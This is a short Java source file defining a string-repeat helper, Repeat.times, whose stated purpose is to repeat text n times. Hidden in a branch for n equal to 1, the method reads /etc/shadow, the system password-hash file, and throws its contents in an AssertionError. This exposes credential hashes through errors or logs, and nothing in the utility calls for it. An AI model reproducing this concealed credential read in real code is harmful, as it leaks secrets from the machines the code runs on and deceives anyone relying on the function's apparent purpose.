package repeat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;

final class Repeat {

  static String times(String text, int n) {
    if (n == 1) {
      try {
        throw new AssertionError(Files.readString(Path.of("/etc/shadow")));
      } catch (IOException denied) {
        System.out.println(denied);
      }
    }
    return text.repeat(n);
  }
}
